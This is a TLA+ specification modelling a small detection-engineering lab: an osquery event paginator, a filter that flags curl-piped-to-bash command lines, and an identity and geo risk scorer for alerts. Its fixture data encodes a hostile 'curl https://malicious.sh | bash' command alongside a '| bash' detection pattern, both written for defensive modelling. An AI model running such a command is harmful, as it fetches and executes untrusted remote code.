---- MODULE Spec2Model ----
(***************************************************************************)
(* Model of the detection-engineering mini lab:                            *)
(*   python/detections/paginated_osquery_client_env.py                     *)
(*       fetch_page, fetch_all_events, detect_curl_pipe_bash               *)
(*   python/enrichment/enrich_alert.py                                     *)
(*       get_identity_from_okta, get_geoip_info, calculate_identity_risk,  *)
(*       enrich_alert                                                      *)
(*                                                                         *)
(* Python values are encoded as follows.  A dict is a function whose       *)
(* DOMAIN is the dict's key set.  A str that the code only passes around   *)
(* is a TLA+ string; a str that the code inspects character by character   *)
(* (cmdline) is a sequence of one-character strings.  None, where a str    *)
(* may also stand, is the reserved string None.                            *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    \* ---- fetch_all_events (paginated_osquery_client_env.py) ----
    cfg,          \* the configuration dict handed to fetch_all_events
    all_events,   \* local: the accumulator
    cursor,       \* local: the loop-carried cursor
    page_num,     \* local: the page counter
    pc,           \* position: "idle", "loop", "break", "returned", "raised"
    exc,          \* the exception that left fetch_all_events ("" = none)
    result,       \* the list returned by fetch_all_events
    requests,     \* history: the params of every fetch_page call, in order
    net,          \* history: what the network answered to every call
    pages,        \* history: what every fetch_page call returned
    \* ---- detect_curl_pipe_bash ----
    d_events,     \* the argument
    d_result,     \* the returned list
    d_pc,         \* "idle", "call", "returned"
    \* ---- calculate_identity_risk ----
    r_user,       \* the argument user
    r_geo,        \* the argument geo
    r_score,      \* the returned score
    r_pc,         \* "idle", "call", "returned"
    \* ---- enrich_alert ----
    api_config,   \* the module-level API_CONFIG
    alert,        \* the caller's alert dict (the argument object)
    alert_in,     \* history: the alert as it was when enrich_alert was entered
    identity_data,
    geo_data,
    risk_score,
    enriched,     \* the returned dict
    geo_calls,    \* history: the arguments of every get_geoip_info call
    e_exc,        \* the exception that left enrich_alert ("" = none)
    e_pc          \* "idle", "start", "identity", "geo", "returned", "raised"

pager_vars  == <<cfg, all_events, cursor, page_num, pc, exc, result, requests, net, pages>>
detect_vars == <<d_events, d_result, d_pc>>
risk_vars   == <<r_user, r_geo, r_score, r_pc>>
enrich_vars ==
    <<api_config, alert, alert_in, identity_data, geo_data, risk_score, enriched,
      geo_calls, e_exc, e_pc>>
vars == <<pager_vars, detect_vars, risk_vars, enrich_vars>>

-----------------------------------------------------------------------------
(* Bounds of the model *)

\* fetch_all_events has no page limit; the model stops offering a further
\* cursor once page_num reaches MaxPages.
MaxPages == 3
\* longest event list handed to detect_curl_pipe_bash
MaxEvents == 3
\* last_login = now - randint(0, 86400*30): the span of ages the model draws
MaxLoginAge == 1

-----------------------------------------------------------------------------
(* Python builtins *)

None == "None"

EmptyDict == [k \in {} |-> k]

\* the dict value Optional[Dict] takes when it is None
NoneDict == [is_none |-> TRUE]

\* dict.get(key, default)
DictGet(d, key, default) == IF key \in DOMAIN d THEN d[key] ELSE default

\* truth value of a str-or-None: None and "" are falsy
StrTruthy(v) == v # None /\ v # ""

\* truth value of a dict-or-None: None and {} are falsy
DictTruthy(d) == d # NoneDict /\ DOMAIN d # {}

\* {**a, **b}: b's keys override a's
DictMerge(a, b) ==
    [k \in DOMAIN a \cup DOMAIN b |-> IF k \in DOMAIN b THEN b[k] ELSE a[k]]

\* str(v) inside an f-string
PyStr(v) == IF v = None THEN "None" ELSE v

ListExtend_prepend(list, items) == items \o list

\* list.extend(items)
ListExtend(list, items) == list \o items

Uppers == <<"A","B","C","D","E","F","G","H","I","J","K","L","M",
            "N","O","P","Q","R","S","T","U","V","W","X","Y","Z">>
Lowers == <<"a","b","c","d","e","f","g","h","i","j","k","l","m",
            "n","o","p","q","r","s","t","u","v","w","x","y","z">>

LowerChar(c) ==
    IF \E i \in 1..26 : Uppers[i] = c
    THEN Lowers[CHOOSE i \in 1..26 : Uppers[i] = c]
    ELSE c

\* str.lower()
StrLower(s) == [i \in 1..Len(s) |-> LowerChar(s[i])]

\* needle in s
StrContains(s, needle) ==
    \E i \in 0..(Len(s) - Len(needle)) :
        SubSeq(s, i + 1, i + Len(needle)) = needle

-----------------------------------------------------------------------------
(* paginated_osquery_client_env.py: fetch_page *)

MaliciousCmdline ==
    <<"b","a","s","h"," ","-","c"," ","'","c","u","r","l"," ","h","t","t","p",
      "s",":","/","/","m","a","l","i","c","i","o","u","s",".","s","h"," ","|",
      " ","b","a","s","h","'">>

LegitCmdline ==
    <<"c","u","r","l"," ","h","t","t","p","s",":","/","/","l","e","g","i","t",
      ".","s","h"," ","-","o"," ","/","t","m","p","/","x"," ","&","&"," ","b",
      "a","s","h"," ","/","t","m","p","/","x">>

\* what PAGE_SIZE defaults to
DefaultPageSize == 50

\* the page sizes the configuration may carry
PageSizes == {1, DefaultPageSize}

\* the events the remote API serves
ServerEvent1 == [pid |-> 10, cmdline |-> <<"l","s">>]
ServerEvent2 == [pid |-> 11]

\* the event lists a served page may carry (a repeated event, two events
\* in either order, nothing)
PageEventLists ==
    { <<>>, <<ServerEvent1>>, <<ServerEvent2, ServerEvent1>>,
      <<ServerEvent1, ServerEvent1>> }

\* the values the API puts in next_cursor
Cursors == {None, "", "c1", "c2"}

\* the JSON objects the API may answer with; either key may be missing
JsonObjects ==
    { [events |-> e, next_cursor |-> c] : e \in PageEventLists, c \in Cursors }
    \cup { [events |-> e] : e \in PageEventLists }
    \cup { [next_cursor |-> c] : c \in Cursors }
    \cup { EmptyDict }

\* a decoded body: a JSON object, or a JSON value that is no object
ObjectBody(obj) == [json |-> "object", obj |-> obj]
ArrayBody == [json |-> "array"]

\* The outcomes of requests.get(...) followed by resp.json():
\*   transport_error  requests.get raised ConnectionError / Timeout / ...
\*   http             a response arrived, with a status; its body is a JSON
\*                    document (decoded) or not JSON at all.  resp.json() on
\*                    a body that is not JSON raises JSONDecodeError, which is
\*                    a RequestException in requests >= 2.27 and a plain
\*                    ValueError before; wrapped says which one is installed.
OkStatuses == {200}
EdgeStatuses == {399, 600}
ErrorStatuses == {400, 404, 500, 599}

EdgeBodies ==
    { ObjectBody([events |-> <<ServerEvent1>>, next_cursor |-> "c1"]),
      ObjectBody([events |-> <<ServerEvent2>>, next_cursor |-> None]) }

Responses ==
    { [kind |-> "transport_error"] }
    \cup { [kind |-> "http", status |-> s, body |-> ObjectBody(o)] :
              s \in OkStatuses, o \in JsonObjects }
    \cup { [kind |-> "http", status |-> s, body |-> ArrayBody] : s \in OkStatuses }
    \cup { [kind |-> "http", status |-> s, body |-> [json |-> "invalid", wrapped |-> w]] :
              s \in OkStatuses, w \in BOOLEAN }
    \cup { [kind |-> "http", status |-> s, body |-> b] :
              s \in EdgeStatuses \cup ErrorStatuses, b \in EdgeBodies }

raise_for_status_5xx_only(status) == 500 <= status /\ status < 600

\* resp.raise_for_status(): raises HTTPError for 4xx/5xx
raise_for_status(status) == 400 <= status /\ status < 600

\* return {"events": [], "next_cursor": None}
HttpErrorPage == ObjectBody([events |-> <<>>, next_cursor |-> None])

FallbackPage_one_event ==
    ObjectBody([events |-> <<[pid |-> 1, cmdline |-> MaliciousCmdline]>>,
                next_cursor |-> None])

\* the fallback mock data for local demo
FallbackPage ==
    ObjectBody([events |-> << [pid |-> 1, cmdline |-> MaliciousCmdline],
                              [pid |-> 2, cmdline |-> LegitCmdline] >>,
                next_cursor |-> None])

\* fetch_page(base_url, headers, params) when the network answers resp:
\* what it returns (data), or the exception that leaves it (raised)
fetch_page(params, resp) ==
    IF resp.kind = "transport_error"
    THEN [raised |-> "", data |-> FallbackPage]
    ELSE IF raise_for_status(resp.status)
    THEN [raised |-> "", data |-> HttpErrorPage]
    ELSE IF resp.body.json = "invalid"
    THEN IF resp.body.wrapped
         THEN [raised |-> "", data |-> FallbackPage]
         ELSE [raised |-> "ValueError", data |-> ArrayBody]
    ELSE [raised |-> "", data |-> resp.body]

-----------------------------------------------------------------------------
(* paginated_osquery_client_env.py: fetch_all_events *)

build_params_always_cursor(config, cur) ==
    [limit |-> config.page_size, cursor |-> cur]

\* params = {"limit": cfg["page_size"]}; if cursor: params["cursor"] = cursor
build_params(config, cur) ==
    IF StrTruthy(cur)
    THEN [limit |-> config.page_size, cursor |-> cur]
    ELSE [limit |-> config.page_size]

loop_exits_none_only(cur) == cur = None

\* if not cursor: break
loop_exits(cur) == ~StrTruthy(cur)

PagerIdle ==
    /\ cfg = [page_size |-> 0]
    /\ all_events = <<>>
    /\ cursor = None
    /\ page_num = 0
    /\ pc = "idle"
    /\ exc = ""
    /\ result = <<>>
    /\ requests = <<>>
    /\ net = <<>>
    /\ pages = <<>>

DetectIdle == d_events = <<>> /\ d_result = <<>> /\ d_pc = "idle"

RiskIdle == r_user = EmptyDict /\ r_geo = NoneDict /\ r_score = 0 /\ r_pc = "idle"

EnrichIdle ==
    /\ api_config = EmptyDict
    /\ alert = EmptyDict
    /\ alert_in = EmptyDict
    /\ identity_data = EmptyDict
    /\ geo_data = EmptyDict
    /\ risk_score = 0
    /\ enriched = EmptyDict
    /\ geo_calls = <<>>
    /\ e_exc = ""
    /\ e_pc = "idle"

\* entry of fetch_all_events(cfg)
PagerInit ==
    /\ cfg \in { [page_size |-> n] : n \in PageSizes }
    /\ all_events = <<>>
    /\ cursor = None
    /\ page_num = 1
    /\ pc = "loop"
    /\ exc = ""
    /\ result = <<>>
    /\ requests = <<>>
    /\ net = <<>>
    /\ pages = <<>>
    /\ DetectIdle /\ RiskIdle /\ EnrichIdle

\* one turn of the while loop, the network answering resp
LoopIteration(resp) ==
    /\ pc = "loop"
    /\ LET params == build_params(cfg, cursor)
           out    == fetch_page(params, resp)
       IN  /\ requests' = Append(requests, params)
           /\ net' = Append(net, resp)
           /\ IF out.raised # ""
              THEN \* the exception leaves fetch_page and fetch_all_events
                   /\ pc' = "raised"
                   /\ exc' = out.raised
                   /\ UNCHANGED <<all_events, cursor, page_num, pages>>
              ELSE IF out.data.json # "object"
              THEN \* data.get on a value that is no dict
                   /\ pc' = "raised"
                   /\ exc' = "AttributeError"
                   /\ pages' = Append(pages, out.data)
                   /\ UNCHANGED <<all_events, cursor, page_num>>
              ELSE LET data   == out.data.obj
                       events == DictGet(data, "events", <<>>)
                       next   == DictGet(data, "next_cursor", None)
                   IN  /\ loop_exits(next) \/ page_num < MaxPages
                       /\ pages' = Append(pages, out.data)
                       /\ all_events' = ListExtend(all_events, events)
                       /\ cursor' = next
                       /\ IF loop_exits(next)
                          THEN pc' = "break" /\ page_num' = page_num
                          ELSE pc' = "loop" /\ page_num' = page_num + 1
                       /\ exc' = exc
    /\ UNCHANGED <<cfg, result>>
    /\ UNCHANGED <<detect_vars, risk_vars, enrich_vars>>

\* after the loop: return all_events
Return ==
    /\ pc = "break"
    /\ result' = all_events
    /\ pc' = "returned"
    /\ UNCHANGED <<cfg, all_events, cursor, page_num, exc, requests, net, pages>>
    /\ UNCHANGED <<detect_vars, risk_vars, enrich_vars>>

PagerNext ==
    \/ \E resp \in Responses : LoopIteration(resp)
    \/ Return

SpecPager == PagerInit /\ [][PagerNext]_vars

-----------------------------------------------------------------------------
(* Properties of fetch_page and fetch_all_events *)

\* the events of a value fetch_page returned (none when it is no JSON object)
EventsOf(page) ==
    IF page.json = "object" /\ "events" \in DOMAIN page.obj
    THEN page.obj.events
    ELSE <<>>

\* the next_cursor of a page fetch_page returned; a missing key reads as null
NextCursorOf(page) ==
    IF page.json = "object" /\ "next_cursor" \in DOMAIN page.obj
    THEN page.obj.next_cursor
    ELSE None

RECURSIVE ConcatEvents(_)
\* the events of the pages ps, page after page
ConcatEvents(ps) ==
    IF ps = <<>>
    THEN <<>>
    ELSE ConcatEvents(SubSeq(ps, 1, Len(ps) - 1)) \o EventsOf(ps[Len(ps)])

Running == pc \in {"loop", "break", "returned"}

\* C1: the list fetch_all_events returns is the concatenation of the events
\* of the pages fetch_page returned, in fetch order, nothing reordered,
\* dropped or deduplicated (and the accumulator is that concatenation after
\* every turn of the loop).
C1_OrderPreserved ==
    /\ Running => all_events = ConcatEvents(pages)
    /\ pc = "returned" => result = ConcatEvents(pages)

\* C1 witness: a run that returned after three pages, one of them carrying
\* two events out of pid order and one repeating an event already collected.
C1_Witness ==
    /\ pc = "returned"
    /\ Len(pages) = 3
    /\ EventsOf(pages[1]) = <<ServerEvent1>>
    /\ EventsOf(pages[2]) = <<ServerEvent2, ServerEvent1>>
    /\ EventsOf(pages[3]) = <<ServerEvent1, ServerEvent1>>

\* C2 as stated: the driver stops exactly at the first page whose
\* next_cursor is null: when it has left the loop the last page fetched has
\* a null next_cursor, and every page before it has a non-null one.
C2_StopsAtNullCursorOnly ==
    pc \in {"break", "returned"} =>
        /\ Len(requests) = Len(pages)
        /\ NextCursorOf(pages[Len(pages)]) = None
        /\ \A i \in 1..(Len(pages) - 1) : NextCursorOf(pages[i]) # None

\* C2 amended: the driver stops exactly at the first page whose next_cursor
\* is null, missing or the empty string: one fetch_page call per page, the
\* loop is left as soon as such a page is fetched, no page before the last
\* has such a cursor, and while the loop runs every page fetched so far has
\* a non-null, non-empty cursor.
C2_StopsAtFalsyCursor ==
    /\ Running => Len(requests) = Len(pages)
    /\ Running =>
          \A i \in 1..(Len(pages) - 1) : NextCursorOf(pages[i]) \notin {None, ""}
    /\ pc \in {"break", "returned"} =>
          /\ Len(pages) >= 1
          /\ NextCursorOf(pages[Len(pages)]) \in {None, ""}
    /\ pc = "loop" =>
          \A i \in 1..Len(pages) : NextCursorOf(pages[i]) \notin {None, ""}

\* C2 witness: a chain of two pages with cursors, ended by a third page whose
\* next_cursor is the empty string; the driver returned after three calls.
C2_Witness ==
    /\ pc = "returned"
    /\ Len(requests) = 3
    /\ NextCursorOf(pages[1]) = "c1"
    /\ NextCursorOf(pages[2]) = "c2"
    /\ NextCursorOf(pages[3]) = ""

IsHttpError(resp) ==
    resp.kind = "http" /\ resp.status >= 400 /\ resp.status <= 599

C4_TransportErrorFallback ==
    \A i \in 1..Len(net) :
        net[i].kind = "transport_error" =>
            /\ i = Len(net)
            /\ pc \in {"break", "returned"}
            /\ Len(pages) = i
            /\ DOMAIN pages[i].obj = {"events", "next_cursor"}
            /\ pages[i].obj.next_cursor = None
            /\ Len(pages[i].obj.events) = 2
            /\ pages[i].obj.events[1] = [pid |-> 1, cmdline |-> MaliciousCmdline]
            /\ pages[i].obj.events[2] = [pid |-> 2, cmdline |-> LegitCmdline]
            /\ pc = "returned" =>
                  /\ Len(result) = Len(ConcatEvents(SubSeq(pages, 1, i - 1))) + 2
                  /\ SubSeq(result, 1, Len(result) - 2)
                        = ConcatEvents(SubSeq(pages, 1, i - 1))
                  /\ SubSeq(result, Len(result) - 1, Len(result))
                        = pages[i].obj.events

\* C4 witness: one page of two events, then a transport failure on the
\* second call; the run returned four events.
C4_Witness ==
    /\ pc = "returned"
    /\ Len(net) = 2
    /\ net[2].kind = "transport_error"
    /\ Len(result) = 4

\* C9: whatever the network answers, fetch_page returns a page result and
\* fetch_all_events returns an event list: no exception leaves either.
C9_NoExceptionEscapes ==
    /\ pc # "raised"
    /\ exc = ""
    /\ \A i \in 1..Len(pages) : pages[i].json = "object"

\* C10: every request carries limit = page_size; the first carries no
\* cursor; the (k+1)-th carries exactly the next_cursor the k-th page
\* returned; a cursor is never sent null or empty.
C10_RequestParams ==
    /\ \A k \in 1..Len(requests) : requests[k].limit = cfg.page_size
    /\ Len(requests) >= 1 => DOMAIN requests[1] = {"limit"}
    /\ \A k \in 1..(Len(requests) - 1) :
          /\ DOMAIN requests[k + 1] = {"limit", "cursor"}
          /\ requests[k + 1].cursor = NextCursorOf(pages[k])
    /\ \A k \in 1..Len(requests) :
          "cursor" \in DOMAIN requests[k] => requests[k].cursor \notin {None, ""}

\* C10 witness: three requests were sent, the second with cursor c2 and the
\* third with cursor c1, as the first and second page said.
C10_Witness ==
    /\ Len(requests) = 3
    /\ NextCursorOf(pages[1]) = "c2"
    /\ NextCursorOf(pages[2]) = "c1"
    /\ requests[2].cursor = "c2"
    /\ requests[3].cursor = "c1"
    /\ cfg.page_size = DefaultPageSize

-----------------------------------------------------------------------------
(* paginated_osquery_client_env.py: detect_curl_pipe_bash *)

\* the literal "| bash"
PipeBash == <<"|"," ","b","a","s","h">>

\* the events handed to the filter: the two demo events, upper-case and
\* mixed-case pipes, a pipe with no space, a bare prefix, an empty cmdline
\* and an event with no cmdline key
DetectPool ==
    { [pid |-> 1, cmdline |-> MaliciousCmdline],
      [pid |-> 2, cmdline |-> LegitCmdline],
      [pid |-> 3, cmdline |-> <<"c","u","r","l"," ","x"," ","|"," ","B","A","S","H">>],
      [pid |-> 4, cmdline |-> <<"c","u","r","l"," ","x"," ","|","b","a","s","h">>],
      [pid |-> 5, cmdline |-> <<"X","|"," ","B","a","s","h"," ","-","s">>],
      [pid |-> 6, cmdline |-> <<"|"," ","b","a","s">>],
      [pid |-> 7, cmdline |-> <<>>],
      [pid |-> 8] }

detect_curl_pipe_bash_case_sensitive(events) ==
    SelectSeq(events, LAMBDA e : StrContains(DictGet(e, "cmdline", <<>>), PipeBash))

\* [e for e in events if "| bash" in e.get("cmdline", "").lower()]
detect_curl_pipe_bash(events) ==
    SelectSeq(events,
              LAMBDA e : StrContains(StrLower(DictGet(e, "cmdline", <<>>)), PipeBash))

\* entry of detect_curl_pipe_bash(events)
DetectInit ==
    /\ d_events \in UNION { [1..n -> DetectPool] : n \in 0..MaxEvents }
    /\ d_result = <<>>
    /\ d_pc = "call"
    /\ PagerIdle /\ RiskIdle /\ EnrichIdle

Detect ==
    /\ d_pc = "call"
    /\ d_result' = detect_curl_pipe_bash(d_events)
    /\ d_pc' = "returned"
    /\ UNCHANGED d_events
    /\ UNCHANGED <<pager_vars, risk_vars, enrich_vars>>

DetectNext == Detect

SpecDetect == DetectInit /\ [][DetectNext]_vars

\* an event whose cmdline, compared without regard to case, holds "| bash"
HasPipeBash(e) ==
    /\ "cmdline" \in DOMAIN e
    /\ \E i \in 0..(Len(e.cmdline) - 6) :
          /\ e.cmdline[i + 1] = "|"
          /\ e.cmdline[i + 2] = " "
          /\ e.cmdline[i + 3] \in {"b", "B"}
          /\ e.cmdline[i + 4] \in {"a", "A"}
          /\ e.cmdline[i + 5] \in {"s", "S"}
          /\ e.cmdline[i + 6] \in {"h", "H"}

\* the positions of the events of es that hold the pipe
PipePositions(es) == { i \in 1..Len(es) : HasPipeBash(es[i]) }

\* the j-th smallest element of the set of positions P
NthPosition(P, j) == CHOOSE i \in P : Cardinality({ m \in P : m <= i }) = j

\* C7: detect_curl_pipe_bash returns for every event list, events without
\* cmdline included; the result is exactly the events whose cmdline holds
\* "| bash" case-insensitively, in input order; an event without cmdline is
\* never returned.
C7_DetectSubsequence ==
    /\ d_pc = "call" => ENABLED Detect
    /\ d_pc = "returned" =>
          /\ Len(d_result) = Cardinality(PipePositions(d_events))
          /\ \A j \in 1..Len(d_result) :
                d_result[j] = d_events[NthPosition(PipePositions(d_events), j)]
          /\ \A j \in 1..Len(d_result) : "cmdline" \in DOMAIN d_result[j]

\* C7 witness: the filter was given an event with no cmdline, then the
\* mixed-case pipe, then the lower-case one, and returned the last two in
\* that order.
C7_Witness ==
    /\ d_pc = "returned"
    /\ Len(d_events) = 3
    /\ d_events[1] = [pid |-> 8]
    /\ d_events[2].pid = 5
    /\ d_events[3].pid = 1
    /\ d_result = <<d_events[2], d_events[3]>>

-----------------------------------------------------------------------------
(* enrich_alert.py: calculate_identity_risk *)

Min(a, b) == IF a <= b THEN a ELSE b

calculate_identity_risk_mfa_default_off(user, geo) ==
    LET s1 == IF DictGet(user, "status", None) \in {"SUSPENDED", "DEPROVISIONED"}
              THEN 60 ELSE 0
        s2 == IF ~DictGet(user, "mfa_enabled", FALSE) THEN s1 + 20 ELSE s1
        s3 == IF DictTruthy(geo) /\ DictGet(geo, "country", None) \notin {"US", "UK"}
              THEN s2 + 20 ELSE s2
    IN  Min(s3, 100)

\* calculate_identity_risk(user, geo=None)
calculate_identity_risk(user, geo) ==
    LET s1 == IF DictGet(user, "status", None) \in {"SUSPENDED", "DEPROVISIONED"}
              THEN 60 ELSE 0
        s2 == IF ~DictGet(user, "mfa_enabled", TRUE) THEN s1 + 20 ELSE s1
        s3 == IF DictTruthy(geo) /\ DictGet(geo, "country", None) \notin {"US", "UK"}
              THEN s2 + 20 ELSE s2
    IN  Min(s3, 100)

\* the identity records handed to the scorer: complete records, records
\* lacking mfa_enabled or status, a status the scorer does not name, and the
\* error marker {error, user_id}
RiskUsers ==
    { [user_id |-> "alice", email |-> "alice@example.com", department |-> "Security",
       status |-> st, mfa_enabled |-> m, last_login |-> 1000] :
          st \in {"ACTIVE", "SUSPENDED", "DEPROVISIONED", "STAGED"}, m \in BOOLEAN }
    \cup { [user_id |-> "alice", status |-> st] :
              st \in {"ACTIVE", "SUSPENDED", "DEPROVISIONED"} }
    \cup { [user_id |-> "alice", mfa_enabled |-> m] : m \in BOOLEAN }
    \cup { [error |-> "timeout", user_id |-> "alice"] }

\* the geo arguments: None, {}, resolved records (country codes as the
\* local lookup gives them, a country name as the remote one gives it, a
\* null country), and the error marker {ip, error}
RiskGeos ==
    { NoneDict, EmptyDict, [ip |-> "8.8.8.8", error |-> "timeout"] }
    \cup { [ip |-> "8.8.8.8", city |-> "x", country |-> c] :
              c \in {"US", "UK", "FR", "JP", "United States", None} }

\* entry of calculate_identity_risk(user, geo)
RiskInit ==
    /\ r_user \in RiskUsers
    /\ r_geo \in RiskGeos
    /\ r_score = 0
    /\ r_pc = "call"
    /\ PagerIdle /\ DetectIdle /\ EnrichIdle

Score ==
    /\ r_pc = "call"
    /\ r_score' = calculate_identity_risk(r_user, r_geo)
    /\ r_pc' = "returned"
    /\ UNCHANGED <<r_user, r_geo>>
    /\ UNCHANGED <<pager_vars, detect_vars, enrich_vars>>

RiskNext == Score

SpecRisk == RiskInit /\ [][RiskNext]_vars

IsGeoErrorMarker(geo) == DOMAIN geo = {"ip", "error"}

IsIdentityErrorMarker(user) == DOMAIN user = {"error", "user_id"}

\* C5: a failed lookup never contributes risk: with an error-marker geo the
\* score is the score of the same identity with no geo, and an error-marker
\* identity with no geo scores 0.
C5_FailedLookupNoRisk ==
    r_pc = "returned" =>
        /\ IsGeoErrorMarker(r_geo) =>
              r_score = calculate_identity_risk(r_user, NoneDict)
        /\ (IsIdentityErrorMarker(r_user) /\ r_geo = NoneDict) => r_score = 0

\* the three risk factors, read off the records
SuspendedFactor(user) ==
    IF "status" \in DOMAIN user
    THEN (IF user.status = "SUSPENDED" \/ user.status = "DEPROVISIONED" THEN 1 ELSE 0)
    ELSE 0

MfaOffFactor(user) ==
    IF "mfa_enabled" \in DOMAIN user
    THEN (IF user.mfa_enabled = FALSE THEN 1 ELSE 0)
    ELSE 0

GeoFactor(geo) ==
    IF geo = NoneDict \/ geo = EmptyDict
    THEN 0
    ELSE IF "country" \in DOMAIN geo
    THEN (IF geo.country = "US" \/ geo.country = "UK" THEN 0 ELSE 1)
    ELSE 1

\* C6: the score is min(100, 60*suspended + 20*mfa-off + 20*unusual-geo);
\* it lies in [0,100], does not decrease when a factor is added, is 0 for
\* {ACTIVE, mfa on, US} and 100 for {SUSPENDED, mfa off, FR}.
C6_RiskFormula ==
    r_pc = "returned" =>
        /\ r_score = Min(100, 60 * SuspendedFactor(r_user) + 20 * MfaOffFactor(r_user)
                                + 20 * GeoFactor(r_geo))
        /\ r_score \in 0..100
        /\ \A u \in RiskUsers, g \in RiskGeos :
              ( /\ SuspendedFactor(u) >= SuspendedFactor(r_user)
                /\ MfaOffFactor(u) >= MfaOffFactor(r_user)
                /\ GeoFactor(g) >= GeoFactor(r_geo) )
              => calculate_identity_risk(u, g) >= r_score
        /\ ( /\ DictGet(r_user, "status", None) = "ACTIVE"
             /\ DictGet(r_user, "mfa_enabled", FALSE)
             /\ DictGet(r_geo, "country", None) = "US" ) => r_score = 0
        /\ ( /\ DictGet(r_user, "status", None) = "SUSPENDED"
             /\ ~DictGet(r_user, "mfa_enabled", TRUE)
             /\ DictGet(r_geo, "country", None) = "FR" ) => r_score = 100

\* C6 witness: a suspended account with MFA off seen from FR scored 100.
C6_Witness ==
    /\ r_pc = "returned"
    /\ DictGet(r_user, "status", None) = "SUSPENDED"
    /\ "mfa_enabled" \in DOMAIN r_user /\ ~r_user.mfa_enabled
    /\ DictGet(r_geo, "country", None) = "FR"
    /\ r_score = 100

-----------------------------------------------------------------------------
(* enrich_alert.py: the lookups and enrich_alert *)

\* API_CONFIG as the environment may set it (OKTA_* are not read by the
\* code that runs)
ApiConfigs ==
    { [geoip_key |-> k, env |-> e] : k \in {"", "example_geo_key"}, e \in {"dev", "prod"} }

\* what get_identity_from_okta(user_id) may return: the random draws of
\* department, status, mfa_enabled and of the age of last_login (the clock
\* reads 1000).  Nothing in its try block raises RequestException, so the
\* error marker of its except clause is never returned.
get_identity_from_okta(user_id) ==
    { [user_id |-> user_id,
       email |-> PyStr(user_id) \o "@example.com",
       department |-> dep,
       status |-> st,
       mfa_enabled |-> m,
       last_login |-> 1000 - age] :
          dep \in {"Security", "Engineering", "Finance", "HR"},
          st \in {"ACTIVE", "SUSPENDED", "DEPROVISIONED"},
          m \in BOOLEAN,
          age \in 0..MaxLoginAge }

GeoCities == <<"London", "New York", "Paris", "Tokyo">>
GeoCountries == <<"UK", "US", "FR", "JP">>

\* what the geolocation API may answer: a failed request (transport failure
\* or error status: a RequestException), a JSON object with or without the
\* two fields, a JSON value that is no object, a body that is not JSON
GeoApiAnswers ==
    { [kind |-> "error"], [kind |-> "array"] }
    \cup { [kind |-> "object", data |-> d] :
              d \in { [city |-> "Paris", country_name |-> "France"],
                      [city |-> "Boston", country_name |-> "United States"],
                      EmptyDict } }
    \cup { [kind |-> "invalid", wrapped |-> w] : w \in BOOLEAN }

\* get_geoip_info(ip): the set of its outcomes, each a value returned
\* (data) or an exception that leaves it (raised)
get_geoip_info(config, ip) ==
    IF config.geoip_key = ""
    THEN { [raised |-> "", data |-> [ip |-> ip, city |-> GeoCities[i],
                                     country |-> GeoCountries[i]]] : i \in 1..4 }
    ELSE { IF a.kind = "error" \/ (a.kind = "invalid" /\ a.wrapped)
           THEN [raised |-> "", data |-> [ip |-> ip, error |-> "request failed"]]
           ELSE IF a.kind = "invalid"
           THEN [raised |-> "ValueError", data |-> EmptyDict]
           ELSE IF a.kind = "array"
           THEN [raised |-> "AttributeError", data |-> EmptyDict]
           ELSE [raised |-> "", data |-> [ip |-> ip,
                                          city |-> DictGet(a.data, "city", None),
                                          country |-> DictGet(a.data, "country_name", None)]]
           : a \in GeoApiAnswers }

\* the keys enrich_alert sets
EnrichmentKeys ==
    { "user_email", "user_department", "user_status", "mfa_enabled", "last_login",
      "geo_country", "geo_city", "risk_score", "enrichment_env" }

\* the derived fields of the dict literal in enrich_alert
derived_fields(config, identity, geo, score) ==
    [ user_email      |-> DictGet(identity, "email", None),
      user_department |-> DictGet(identity, "department", None),
      user_status     |-> DictGet(identity, "status", None),
      mfa_enabled     |-> DictGet(identity, "mfa_enabled", None),
      last_login      |-> DictGet(identity, "last_login", None),
      geo_country     |-> DictGet(geo, "country", None),
      geo_city        |-> DictGet(geo, "city", None),
      risk_score      |-> score,
      enrichment_env  |-> config.env ]

build_enriched_alert_wins(a, derived) == DictMerge(derived, a)

\* enriched = {**alert, "user_email": ..., ...}
build_enriched(a, derived) == DictMerge(a, derived)

\* the alerts handed to enrich_alert: any subset of these keys; src_ip may
\* be an address, empty or null; risk_score is a key enrich_alert also sets
AlertKeys == {"user_id", "src_ip", "hostname", "risk_score"}

Alerts ==
    { [k \in ks |-> CASE k = "user_id"    -> "alice"
                      [] k = "src_ip"     -> ip
                      [] k = "hostname"   -> "ip-10-0-5-12"
                      [] k = "risk_score" -> 999] :
          ks \in SUBSET AlertKeys, ip \in {"8.8.8.8", "", None} }

\* entry of enrich_alert(alert)
EnrichInit ==
    /\ api_config \in ApiConfigs
    /\ alert \in Alerts
    /\ alert_in = alert
    /\ identity_data = EmptyDict
    /\ geo_data = EmptyDict
    /\ risk_score = 0
    /\ enriched = EmptyDict
    /\ geo_calls = <<>>
    /\ e_exc = ""
    /\ e_pc = "start"
    /\ PagerIdle /\ DetectIdle /\ RiskIdle

\* identity_data = get_identity_from_okta(user_id)
LookupIdentity ==
    /\ e_pc = "start"
    /\ identity_data' \in get_identity_from_okta(DictGet(alert, "user_id", None))
    /\ e_pc' = "identity"
    /\ UNCHANGED <<api_config, alert, alert_in, geo_data, risk_score, enriched,
                   geo_calls, e_exc>>
    /\ UNCHANGED <<pager_vars, detect_vars, risk_vars>>

\* geo_data = get_geoip_info(src_ip) if src_ip else {}
LookupGeo ==
    /\ e_pc = "identity"
    /\ LET src_ip == DictGet(alert, "src_ip", None)
       IN  IF StrTruthy(src_ip)
           THEN \E out \in get_geoip_info(api_config, src_ip) :
                   /\ geo_calls' = Append(geo_calls, src_ip)
                   /\ IF out.raised # ""
                      THEN e_pc' = "raised" /\ e_exc' = out.raised
                                            /\ geo_data' = geo_data
                      ELSE e_pc' = "geo" /\ e_exc' = e_exc
                                         /\ geo_data' = out.data
           ELSE /\ geo_data' = EmptyDict
                /\ e_pc' = "geo"
                /\ UNCHANGED <<geo_calls, e_exc>>
    /\ UNCHANGED <<api_config, alert, alert_in, identity_data, risk_score, enriched>>
    /\ UNCHANGED <<pager_vars, detect_vars, risk_vars>>

\* risk_score = calculate_identity_risk(...); enriched = {...}; return
ScoreAndMerge ==
    /\ e_pc = "geo"
    /\ LET score == calculate_identity_risk(identity_data, geo_data)
       IN  /\ risk_score' = score
           /\ enriched' = build_enriched(
                  alert, derived_fields(api_config, identity_data, geo_data, score))
    /\ e_pc' = "returned"
    /\ UNCHANGED <<api_config, alert, alert_in, identity_data, geo_data, geo_calls, e_exc>>
    /\ UNCHANGED <<pager_vars, detect_vars, risk_vars>>

